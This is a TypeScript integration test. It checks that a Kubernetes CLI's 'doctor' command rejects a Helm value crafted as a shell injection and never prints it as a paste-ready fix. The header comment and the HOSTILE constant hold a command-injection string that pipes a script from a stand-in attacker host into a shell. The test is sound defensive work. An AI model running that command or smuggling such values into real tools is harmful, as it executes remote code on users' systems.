/**
 * The doctor's fix commands and values read from the release (issue 13, item 8). Reproduced before
 * the fix: a release whose awsCredentialsSecret was `x; curl https://evil.example/p | sh` printed
 * `kubectl create secret generic x; curl https://evil.example/p | sh --from-file …` as the fix to
 * paste. Now the built binary, on a real release on the test bed, names the value as an invalid
 * secret name and prints no command for it, in the text output and in --output json.
 */
import { expect, it } from 'vitest';
import { installProBuilder } from '../fixtures/installedRelease.js';
import { runCli } from './cliHarness.js';
import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, referenceChart, testbed, uniqueNamespace } from './testbed.js';

const HOSTILE = 'x; curl https://evil.example/p | sh';

interface JsonCheck {
  id: string;
  status: string;
  summary: string;
  fix: string | null;
}

describeWithCharts('doctor: a hostile value in the release never becomes a fix command', () => {
  const kube = kubeClient();
  const namespaces = namespacesDeletedAfterAll(() => kube);

  it('awsCredentialsSecret set to a shell command: reported as an invalid name, no command printed', async () => {
    const ns = uniqueNamespace('hostile');
    namespaces.push(ns);
    await installProBuilder({
      kube,
      kubeconfig: testbed.kubeconfig!,
      helmBinary: testbed.helm4!,
      chartDir: referenceChart('0.6.10'),
      namespace: ns,
      buildkitCpu: '100m',
      buildkitMemory: '128Mi',
      values: `awsCredentialsSecret: ${JSON.stringify(HOSTILE)}\n`,
      waitForRollout: false,
    });
    const common = ['doctor', '--kubeconfig', testbed.kubeconfig!, '-n', ns];

    const json = await runCli([...common, '--output', 'json']);
    const checks = (JSON.parse(json.stdout) as { checks: JsonCheck[] }).checks;
    const row = checks.find((c) => c.id === 'secrets.aws-credentials')!;
    expect(row).toMatchObject({
      status: 'fail',
      summary: expect.stringMatching(/^awsCredentialsSecret in the release's values is not a valid secret name: /),
      fix: null,
    });
    for (const c of checks) expect(c.fix ?? '', `fix of ${c.id}`).not.toMatch(/curl/);

    const text = await runCli(common);
    expect(text.stdout).toMatch(/awsCredentialsSecret in the release's values is not a valid secret name/);
    expect(text.stdout).not.toMatch(/^\s*fix: .*curl/m);
  });
});
